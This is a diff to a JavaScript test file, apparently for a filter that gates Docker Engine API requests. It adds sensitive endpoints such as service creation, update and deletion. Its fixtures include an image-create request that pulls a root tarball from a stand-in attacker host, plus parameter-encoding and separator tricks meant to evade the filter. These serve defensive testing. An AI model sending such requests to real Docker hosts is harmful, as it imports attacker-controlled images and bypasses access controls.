@@ -26,7 +26,9 @@ test.each([
 ])('%s passes', (line) => expect(asks(line)).toBe(true));
 
 test.each([
-  'GET /info',
+  'GET /configs',
+  'POST /services/create',
+  'DELETE /services/web',
   'POST /build',
   'GET /secrets',
   'POST /swarm/init',
@@ -52,6 +54,7 @@ test.each([
 test.each([
   'POST /v1.45/images/create?fromSrc=http://evil.example/root.tar&repo=lab/nginx&tag=1',
   'POST /images/create?fromImage=a&tag=b&fromSrc=-',
+  'POST /services/web/update?version=1&other=1',
   'POST /images/create?fromImage=a&%66romSrc=-',
   'POST /images/create?fromImage=a;fromSrc=-',
   'POST /images/create?fromImage=a&changes=ENTRYPOINT+x',
